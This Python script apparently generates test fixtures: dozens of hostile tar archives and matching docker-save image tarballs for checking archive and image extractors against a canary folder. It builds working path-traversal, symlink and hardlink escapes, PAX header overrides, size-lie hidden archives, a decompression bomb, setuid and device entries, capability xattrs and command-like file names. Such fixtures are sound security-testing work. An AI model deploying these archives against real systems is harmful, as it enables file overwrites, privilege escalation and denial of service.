"""Writes one tar per trick into FOLDER, checking nothing:

    tricks.py FOLDER CANARY

escape-NAME.tar   leads to the folder CANARY, which has "file": by its path, a link, an override
odd-NAME.tar      what no source, image, volume or plugin should bring, or should do no harm
image-NAME.tar    for each of both the same as the one layer of an image (docker save)
"""
import gzip
import hashlib
import io
import json
import sys
import tarfile

folder, canary = sys.argv[1:3]
up = "../" * 24 + canary.lstrip("/")
DIR, SYM, LNK, CHR, BLK, FIFO = (tarfile.DIRTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE,
                                 tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE)
tricks = {}


class Tar:
    def __init__(self, name):
        self.out = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.out, mode="w", format=tarfile.PAX_FORMAT)
        tricks[name] = self

    def add(self, name, type=tarfile.REGTYPE, data=b"evil", link="", mode=0o644, uid=0, pax={}, size=None):
        i = tarfile.TarInfo(name)
        i.type, i.linkname, i.mode, i.uid, i.gid, i.pax_headers = type, link, mode, uid, uid, dict(pax)
        i.size = len(data) if type == tarfile.REGTYPE else 0
        if size is not None:
            # what the header says, whatever follows
            i.size = size
            self.tar.fileobj.write(i.tobuf(tarfile.PAX_FORMAT))
            self.tar.fileobj.write(data + bytes(-len(data) % 512))
            self.tar.offset = self.tar.fileobj.tell()
            return self
        self.tar.addfile(i, io.BytesIO(data))
        return self

    def bytes(self):
        self.tar.close()
        return self.out.getvalue()


def trick(name):
    return Tar(name)


trick("escape-dotdot").add(up + "/dotdot")
trick("escape-dotdot-inside").add("a", DIR, mode=0o755).add("a/" + up + "/inside")
trick("escape-absolute").add(canary + "/absolute")
trick("escape-slashes").add("//" + canary + "/slashes")
trick("escape-pax-dotdot").add("fine", pax={"path": up + "/pax"})
trick("escape-pax-absolute").add("fine", pax={"path": canary + "/pax"})
trick("escape-link").add("l", SYM, link=canary).add("l/through")
trick("escape-link-dotdot").add("l", SYM, link=up).add("l/through")
trick("escape-link-chain").add("a", DIR, mode=0o755).add("a/b", SYM, link="..").add(
    "c", SYM, link="a/b/" + up).add("c/through")
trick("escape-link-root").add("l", SYM, link="/proc/self/root" + canary).add("l/through")
trick("escape-link-pax").add("l", SYM, link="x", pax={"linkpath": canary}).add("l/through")
trick("odd-link-folder").add("l", SYM, link=canary).add("l", DIR, mode=0o777).add("l/through")
trick("escape-link-late").add("d", DIR, mode=0o755).add("d", SYM, link=canary).add("d/through")
trick("escape-hard").add("h", LNK, link=canary + "/file").add("h")
trick("escape-hard-dotdot").add("h", LNK, link=up + "/file").add("h")
trick("escape-hard-through").add("l", SYM, link=canary).add("h", LNK, link="l/file").add("h")
trick("escape-hard-pax").add("h", LNK, link="x", pax={"linkpath": canary + "/file"}).add("h")
# the data of one is an archive of its own, for whoever believes the wrong size
hidden = Tar("hidden").add(up + "/hidden").bytes()
del tricks["hidden"]
trick("odd-size-zero").add("f", data=hidden, size=0).add("g")
trick("odd-size-pax").add("f", data=hidden, pax={"size": "0"}).add("g")
trick("odd-size-lies").add("f", data=b"short", size=1 << 33)
trick("odd-file-over-link").add("l", SYM, link=canary + "/file").add("l")
trick("odd-case").add("Link", SYM, link="sub").add("link", DIR, mode=0o755).add("link/x").add("LINK/y")
trick("odd-devices").add("null", CHR).add("disk", BLK).add("pipe", FIFO)
trick("odd-device-with-content").add("disk", BLK, data=bytes(1024), size=1024).add("f")
trick("odd-setuid").add("sh", mode=0o6755).add("d", DIR, mode=0o7777)
trick("odd-names").add("a\nb").add("c\x1b[2Jd").add("-rf").add("e\\..\\f")
trick("odd-deep").add("/".join(["d"] * 1500))
trick("odd-owner").add("f", uid=1 << 20)
trick("odd-attributes").add("d", DIR, mode=0o755, pax={
    "SCHILY.xattr.trusted.overlay.redirect": up, "SCHILY.xattr.trusted.overlay.opaque": "y",
    "SCHILY.xattr.security.capability": "\x01\x00\x00\x02\xff\xff\xff\xff\x00\x00\x00\x00"})
trick("odd-git").add(".git/hooks/post-receive", mode=0o755).add(".GIT/config").add("git~1/config")
trick("odd-unknown").add("f", b"Z").add("m", b"M")

plain = {name: tar.bytes() for name, tar in tricks.items()}
bomb = tarfile.TarInfo("bomb")
bomb.size = 20 << 30
plain["odd-bomb"] = gzip.compress(bomb.tobuf(tarfile.GNU_FORMAT) + bytes(1 << 22), 1)
plain["odd-cut"] = plain["odd-setuid"][:700]


def image(layer):
    try:
        data = gzip.decompress(layer)
    except OSError:
        data = layer
    config = json.dumps({"architecture": "amd64", "os": "linux", "config": {"Cmd": ["/x"]}, "rootfs": {
        "type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(data).hexdigest()]}}).encode()
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        for name, data in (("manifest.json", json.dumps([{"Config": "c.json", "Layers": ["l.tar"]}]).encode()),
                           ("c.json", config), ("l.tar", layer)):
            i = tarfile.TarInfo(name)
            i.size = len(data)
            t.addfile(i, io.BytesIO(data))
    return out.getvalue()


for name, data in plain.items():
    with open(f"{folder}/{name}.tar", "wb") as f:
        f.write(data)
    with open(f"{folder}/image-{name}.tar", "wb") as f:
        f.write(image(data))
